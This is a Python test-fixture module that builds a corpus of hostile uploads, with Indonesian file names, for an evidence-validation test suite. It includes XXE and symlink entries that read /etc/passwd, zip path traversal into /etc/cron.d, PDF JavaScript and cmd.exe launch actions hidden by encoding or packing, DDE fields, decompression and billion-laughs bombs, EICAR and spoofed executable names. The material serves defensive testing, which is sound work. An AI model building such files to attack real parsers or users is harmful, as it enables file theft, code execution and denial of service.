"""Files of evidence that want to do harm, made on the fly: programs in papers, files of two kinds, bombs, false names.

``CORPUS`` maps a file's name to what makes its bytes. Workbooks have a corpus of their own (``workbooks.py``), which
evidence must refuse as well. The only "virus" is EICAR's harmless test string, put together when it is asked for.
"""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from tests.evidence import document, locked, pdf, photo, screenshot, stream
from tests.hostile.workbooks import zip_of

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def eicar() -> bytes:
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"


def png(width: int, height: int, data: bytes) -> bytes:
    """A PNG that says it is ``width`` by ``height`` dots, whatever its data are."""

    def piece(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + piece(b"IHDR", head) + piece(b"IDAT", data) + piece(b"IEND", b"")


def dense_png() -> bytes:
    """30,000 by 30,000 dots in 110 KB, whole and well-formed."""
    row = b"\0" * (1 + 30_000 // 8)
    packing = zlib.compressobj(9)
    return png(30_000, 30_000, b"".join(packing.compress(row) for _ in range(30_000)) + packing.flush())


def packed(body: bytes, number: int = 9, head: bytes = b"/Filter /FlateDecode") -> dict[int, bytes]:
    """An object hidden in an object stream, where no plain search of the file finds it."""
    first = b"%d 0 " % number
    inside = zlib.compress(first + body) if head else first + body
    return {8: stream(inside, b"/Type /ObjStm /N 1 /First %d %b" % (len(first), head))}


def twice_packed(body: bytes) -> bytes:
    """Packed twice, and saying so where nobody looks for it."""
    inside = zlib.compress(zlib.compress(b"9 0 " + body))
    head = (
        b"/Filter [/FlateDecode /FlateDecode] /Pad (" + b"x" * 5000
        + b"/Filter /FlateDecode) /Type /ObjStm /N 1 /First 4"
    )  # fmt: skip
    return pdf(more={8: stream(inside, head)})


def attached(name: str, body: bytes) -> bytes:
    where = b"<< /Type /Filespec /F (%b) /EF << /F 7 0 R >> >>" % name.encode()
    return pdf(
        more={6: where, 7: stream(body, b"/Type /EmbeddedFile")},
        catalog=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
    )


def with_zip_behind() -> bytes:
    out = io.BytesIO(pdf())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("isi.txt", "rahasia")
    return out.getvalue()


def word_with(
    parts: dict[str, bytes | str | Callable[[], object]] | None = None,
    *,
    relation: str = "",
    before: bytes = b"",
    behind: bytes = b"",
) -> bytes:
    """The plain document with these parts added or changed, and with one relation more."""
    with zipfile.ZipFile(io.BytesIO(document())) as archive:
        held: dict[str, object] = {name: archive.read(name) for name in archive.namelist()}
    if relation:
        name = "word/_rels/document.xml.rels"
        held[name] = bytes(held[name]).replace(b"</Relationships>", relation.encode() + b"</Relationships>")  # type: ignore[call-overload]
    return zip_of({**held, **(parts or {})}, before=before) + behind  # type: ignore[dict-item]


def related(kind: str, target: str) -> str:
    return f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def body_of(text: str, before: str = "") -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<?xml version="1.0"?>{before}<w:document xmlns:w="{space}"><w:body>{text}</w:body></w:document>'.encode()


def symlink() -> bytes:
    out = io.BytesIO(document())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/media/tautan.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def zeros(megabytes: int) -> Callable[[], object]:
    return lambda: (b"\0" * (1 << 20) for _ in range(megabytes))


LAUGHS = "<!DOCTYPE a [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]>"
OUTSIDER = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"

CORPUS: dict[str, Callable[[], bytes]] = {
    # --- Pictures ---
    "bom.png": dense_png,
    "bom tanpa isi.png": lambda: png(30_000, 30_000, b""),
    "vektor.png": lambda: SVG,
    "vektor.svg": lambda: SVG,
    "halaman.jpg": lambda: HTML,
    "foto.png": photo,
    "layar.jpg": screenshot,
    "terpotong.jpg": lambda: photo()[:-4000],
    "terpotong.png": lambda: screenshot()[: len(screenshot()) // 2],
    "program.jpg": lambda: b"MZ\x90\x00" + b"\0" * 500,
    "hanya kepala.jpg": lambda: b"\xff\xd8\xff\xe0" + HTML,
    "virus.jpg": lambda: photo() + eicar(),
    "virus.png": lambda: screenshot() + eicar(),
    # --- Papers ---
    "virus.pdf": eicar,
    "html di depan.pdf": lambda: pdf(before=HTML),
    "html di belakang.pdf": lambda: pdf() + HTML,
    "html di kepala.pdf": lambda: pdf().replace(b"%\xe2\xe3\xcf\xd3", HTML),
    "dengan zip.pdf": with_zip_behind,
    "skrip.pdf": lambda: pdf(catalog=b"/OpenAction " + SCRIPT),
    "skrip rujukan.pdf": lambda: pdf(more={9: SCRIPT}, catalog=b"/OpenAction 9 0 R"),
    "skrip tersamar.pdf": lambda: pdf(more={9: SCRIPT.replace(b"JavaScript", b"J#61v#61#53cript")}),
    "skrip terkemas.pdf": lambda: pdf(more=packed(SCRIPT)),
    "skrip terkemas tanpa saring.pdf": lambda: pdf(more=packed(SCRIPT, head=b"")),
    "skrip terkemas aneh.pdf": lambda: pdf(
        more={
            8: stream(
                (b"9 0 " + SCRIPT).hex().encode() + b">",
                b"/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode",
            )
        }
    ),
    "skrip yatim.pdf": lambda: pdf().replace(b"xref\n0 1", b"9 0 obj\n" + SCRIPT + b"\nendobj\nxref\n0 1"),
    "jalankan.pdf": lambda: pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "jalankan terkemas.pdf": lambda: pdf(more=packed(b"<< /S /Launch /F (cmd.exe) >>")),
    "buka alamat.pdf": lambda: pdf(catalog=b"/OpenAction << /S /URI /URI (http://contoh.id) >>"),
    "buka alamat terkemas.pdf": lambda: pdf(
        more=packed(b"<< /S /URI /URI (http://contoh.id) >>"), catalog=b"/OpenAction 9 0 R"
    ),
    "kirim formulir.pdf": lambda: pdf(more={9: b"<< /S /SubmitForm /F (http://contoh.id) >>"}),
    "xfa.pdf": lambda: pdf(catalog=b"/AcroForm << /XFA 9 0 R >>", more={9: stream(b"<xdp/>")}),
    "program terlampir.pdf": lambda: attached("setup.exe", b"MZ\x90\x00"),
    "halaman terlampir.pdf": lambda: attached("halaman.html", HTML),
    "virus terlampir.pdf": lambda: attached("a.com", eicar()),
    "terkunci.pdf": lambda: pdf(
        trailer=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >> /ID [(a)(a)]"
    ),
    "kata sandi.pdf": lambda: locked("rahasia"),
    "skrip terkunci.pdf": lambda: locked("", pdf(catalog=b"/X 9 0 R", more={9: SCRIPT})),
    "bom terkemas.pdf": lambda: pdf(
        more={
            8: stream(
                zlib.compress(b"9 0 " + b" " * (100 << 20), 1),
                b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
            )
        }
    ),
    "skrip terkemas tersamar.pdf": lambda: pdf(
        more={9: b"<< >>"} | packed(SCRIPT, head=b"/Filter /FlateDecode /Pad (" + b"obj " * 2000 + b")")
    ),
    "skrip terkemas dua kali.pdf": lambda: twice_packed(SCRIPT),
    "skrip terkemas nama aneh.pdf": lambda: pdf(
        more={
            8: stream(
                zlib.compress(b"9 0 " + SCRIPT), b"/Type /O#62jStm /N 1 /F#69rst 4 /Filter /FlateDecode"
            )
        }
    ),
    "kesibukan aliran.pdf": lambda: pdf(more={9: stream(b"/ObjStm stream\n" * 600_000)}),
    "kesibukan pembukaan.pdf": lambda: pdf(more={9: stream(b"/OpenAction 7 0 R " * 500_000)}),
    "kesibukan pagar.pdf": lambda: pdf(more={9: stream(b"/#41#42#43" * 900_000)}),
    "bom terkemas aneh.pdf": lambda: pdf(
        more={
            8: stream(
                zlib.compress(zlib.compress(b"\0" * (400 << 20), 1), 9),
                b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]",
            )
        }
    ),
    "tanpa tabel.pdf": lambda: b"%PDF-1.7\nhadir\n%%EOF\n",
    "dokumen.pdf": document,
    # --- Documents ---
    "makro.docx": lambda: word_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "makro.docm": document,
    "makro tersamar.docx": lambda: word_with(
        {
            "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
            b"</Types>"
        }
    ),
    "objek.docx": lambda: word_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "berkas lain.docx": lambda: word_with({"word/embeddings/lampiran.docx": document()}),
    "activex.docx": lambda: word_with({"word/activeX/activeX1.xml": b"<ax/>"}),
    "program.docx": lambda: word_with({"word/media/setup.exe": b"MZ"}),
    "program tersamar.docx": lambda: word_with({"word/media/foto.png": b"MZ\x90\x00"}),
    "templat jauh.docx": lambda: word_with(relation=related("attachedTemplate", "https://contoh.id/a.dotm")),
    "gambar jauh.docx": lambda: word_with(relation=related("image", "http://contoh.id/lacak.png")),
    "objek jauh.docx": lambda: word_with(relation=related("oleObject", "http://contoh.id/a.rtf")),
    "tautan skrip.docx": lambda: word_with(relation=related("hyperlink", "javascript:alert(1)")),
    "isi jauh.docx": lambda: word_with({"word/afchunk1.html": HTML}),
    "dde.docx": lambda: word_with(
        {"word/document.xml": body_of(FIELD.format("DDE") + FIELD.format("AUTO cmd"))}
    ),
    "entitas.docx": lambda: word_with({"word/document.xml": body_of("&c;", LAUGHS)}),
    "entitas luar.docx": lambda: word_with({"word/document.xml": body_of("&x;", OUTSIDER)}),
    "entitas utf-16.docx": lambda: word_with(
        {"word/document.xml": body_of("", OUTSIDER).decode().encode("utf-16")}
    ),
    "keluar map.docx": lambda: word_with({"../../himpun.py": b"print(1)"}),
    "keluar map penuh.docx": lambda: word_with({"/etc/cron.d/himpun.xml": b"<a/>"}),
    "tautan berkas.docx": symlink,
    "kesibukan unsur.docx": lambda: word_with(
        {
            "word/document.xml": body_of("<w:p/>" * 6_000_000),
            "word/media/image8.png": random.Random(2).randbytes(800_000),
        }
    ),
    "virus.docx": lambda: word_with({"word/media/image9.png": eicar()}),
    "virus.xlsx": lambda: zip_of({"eicar.com": eicar()}),
    "bom.docx": lambda: word_with({"word/media/image9.png": zeros(512)}),  # type: ignore[dict-item]
    "bom kecil.docx": lambda: word_with(
        {"customXml/item1.xml": lambda: (b"<a>", b" " * (40 << 20), b"</a>")}
    ),
    "di belakang pdf.docx": lambda: word_with(before=pdf()),
    "html di belakang.docx": lambda: word_with(behind=HTML),
    "bukan dokumen.docx": lambda: zip_of({"isi.txt": b"hadir"}),
    "zip.xlsx": lambda: zip_of({"[Content_Types].xml": b"<Types/>"}),
    "lama.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
    # --- Names ---
    "foto\u202egpj.exe": lambda: b"MZ\x90\x00",
    "laporan.pdf.exe": pdf,
    "laporan.html": pdf,
    "kosong.pdf": lambda: b"",
    "terlalu besar.jpg": lambda: b"\xff\xd8\xff" + b"\0" * (10 << 20),
    "data.json": lambda: json.dumps({"a": 1}).encode(),
    "gambar.gif": lambda: _gif(),
}


def _gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (4, 4)).save(out, "GIF")
    return out.getvalue()
